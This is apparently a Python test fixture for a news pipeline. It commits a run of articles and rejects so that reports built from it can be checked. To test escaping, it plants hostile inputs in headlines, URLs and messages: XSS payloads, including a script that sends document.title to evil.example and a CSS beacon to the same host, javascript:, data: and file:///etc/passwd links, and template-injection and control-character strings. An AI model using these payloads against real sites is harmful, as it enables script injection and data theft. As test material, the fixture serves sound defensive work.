"""A data set to report on, made with the real writer and the real commit; some of what is in it means harm."""

from __future__ import annotations

import datetime as dt
from collections import Counter
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

from pipeline.ledger import Counts, Ledger
from pipeline.report import RunExtra
from schemas.article import Article, Cut, Tag
from schemas.feed import Notice, NoticeCode
from schemas.reject import FILTERED, Reason, Reject
from tests.pipeline.rows import DAY, NOW, OTHER_DAY, article, reject, stage_articles, stage_rejects

ISLAND, WAVE = "De Eilandbode", "Hafenwelle"
HOSTILE = (
    "<script>fetch('https://evil.example/'+document.title)</script>",
    "</style><style>*{background:url(https://evil.example/a)}</style>",
    "</title></p></section><img src=https://evil.example/b onerror=alert(1)>",
    '" onmouseover="alert(1)" x=\'',
    "{{ 7 * 7 }} {% for x in y %} &amp;&lt;",
    "\u202eright to left\u202c \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u2066",
    "a bell \x07, an escape \x1b[31m, a delete \x7f, a replacement \ufffd",
    "--><!-- ]]> <![CDATA[",
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
)
LAST = RunExtra(
    started=NOW,
    seconds=75.4,
    runs=("000001-20261120T063000Z",),
    counts=Counts(0, 0, 0, 0, 0),
    inputs=("night",),
    notices=(
        Notice(NoticeCode.FEED_SILENT, "https://hafenwelle.example/feed.xml", "nothing new for 9 days", NOW),
        Notice(NoticeCode.HOST_REFUSES, "oudewal.example", f"has refused 4 requests {HOSTILE[0]}", NOW),
    ),
    waiting=3,
    stage_seconds={"read": 1.5, "extract": 40.0, "strip": 6.0},
    peak_bytes=412_000_000,
    feeds_asked=9,
    feeds_unchanged=4,
    feeds_failed=1,
)


def cut_article(number: int, run_id: str, text: str, cuts: Sequence[tuple[int, int, str, str]]) -> Article:
    """Article ``number``, of which the stretches ``cuts`` (start, end, kind, rule) of ``text`` were cut."""
    removed, body, at = [], [], 0
    for start, end, kind, rule in cuts:
        removed.append(Cut(start, end, kind, rule, text[start:end]))
        body.append(text[at:start])
        at = end
    kept = "".join([*body, text[at:]])
    clutter = sum(one.end - one.start for one in removed if one.kind not in ("headline", "whitespace"))
    return replace(
        article(number, run_id),
        body=kept,
        body_chars=len(kept),
        removed=tuple(removed),
        clutter_ratio=clutter / len(text),
        content_hash=f"{number:032x}",
    )


def night(run_id: str) -> tuple[list[Article], list[Reject]]:
    """The articles and dead letters of the second run."""
    story = "The tide came early to Oudewal. " * 12
    pitch = "Sign up for our letter from the quay. "
    end = len(story)
    letter = cut_article(1, run_id, story + pitch + "\n", [(end, end + len(pitch), "newsletter", "en.newsletter")])
    long = "Read also: a hundred other stories. " * 40
    teaser = cut_article(
        2, run_id, story + long + pitch, [
            (end, end + len(long), "related_teaser", "signal.weighed"),
            (end + len(long), end + len(long) + len(pitch), "newsletter", "nl.newsletter"),
        ],
    )  # fmt: skip
    topics = (
        Tag("medtop", "06000000", "environment", 0.9, "tide"),
        Tag("medtop", "20000424", "environmental pollution", 0.8, "tide"),
        Tag("source-section", "news", "News", 1.0, "News"),
    )
    articles = [
        replace(letter, source_id="eiland", source_name=ISLAND, agency="ANP", language="nl", tags=topics),
        replace(teaser, source_id="eiland", source_name=ISLAND, language="nl-BE", tags=(), version=2),
    ]
    for number in range(3, 9):
        short = number % 2 == 1
        articles.append(
            replace(
                article(number, run_id, day=OTHER_DAY, text="Kurz." if number < 8 else "Lang. " * 60),
                source_id="welle",
                source_name=WAVE,
                language="und" if short else "de",
                published_edtf=None if number < 6 else OTHER_DAY.isoformat(),
                date_basis="fetched" if number < 6 else "published",
                quality_flags=("short_body",) if number < 8 else (),
                removed=(),
                clutter_ratio=0.0,
                tags=(Tag("medtop", "15000000", "sport", 0.9, "Ruder"),),
            )
        )
    for number, text in enumerate(HOSTILE, 20):
        start = len(story)
        bad = cut_article(
            number, run_id, story + text + story, [(start, start + len(text), "other", f"rule{number}")]
        )
        articles.append(
            replace(
                bad,
                headline=text,
                source_id=f"hostile-{number}{text[:3]}",
                source_name=text,
                url=LINKS[number % len(LINKS)],
                canonical_url=None,
                language="ar" if "\u0645" in text else "en",
                agency=text[:20],
                input_ref=text,
            )
        )
    letters = [
        replace(reject(30, run_id), url="https://oudewal.example/gone?a=1&b=<2>", source_id="eiland"),
        replace(reject(31, run_id, code=Reason.ROBOTS_DISALLOWED), source_id="welle", url="http://welle.example/x"),
        replace(reject(32, run_id, code=Reason.STAGE_ERROR), message=HOSTILE[0], input_ref="a/b.txt"),
        replace(reject(33, run_id, code=Reason.BAD_SCHEME), url=LINKS[0], input_ref=LINKS[0]),
        *(
            replace(reject(40 + n, run_id, code=Reason.BAD_SCHEME), url=LINKS[n % 4], message=text, source_id=text)
            for n, text in enumerate(HOSTILE)
        ),
        *(replace(reject(100 + n, run_id, code=Reason.TIMEOUT), source_id=None) for n in range(40)),
    ]
    return articles, letters


def commit_night(root: Path, *, now: dt.datetime = NOW) -> RunExtra:
    """Commit ``night`` as the next run, and what is to be known of it beside."""
    with Ledger(root) as ledger:
        run_id = ledger.next_run_id(now)
        articles, letters = night(run_id)
        folder = ledger.staging(run_id)
        files = [
            stage_articles(
                folder, f"{run_id}-{n}.parquet", [one for one in articles if one.partition_date == day], day
            )
            for n, day in enumerate((DAY, OTHER_DAY))
        ]
        files.append(stage_rejects(folder, f"{run_id}-9.parquet", letters))
        reasons = Counter(str(letter.code) for letter in letters)
        filtered = sum(count for code, count in reasons.items() if code in FILTERED)
        counts = Counts(
            read=len(articles) + len(letters) + 5,
            written=len(articles),
            duplicate=5,
            filtered=filtered,
            rejected=len(letters) - filtered,
            reasons=dict(sorted(reasons.items())),
        )
        ledger.commit(run_id, files, None, counts, config_hash="c0ffee", inputs=["night"], now=now)
    return replace(LAST, started=now, runs=(run_id,), counts=counts)
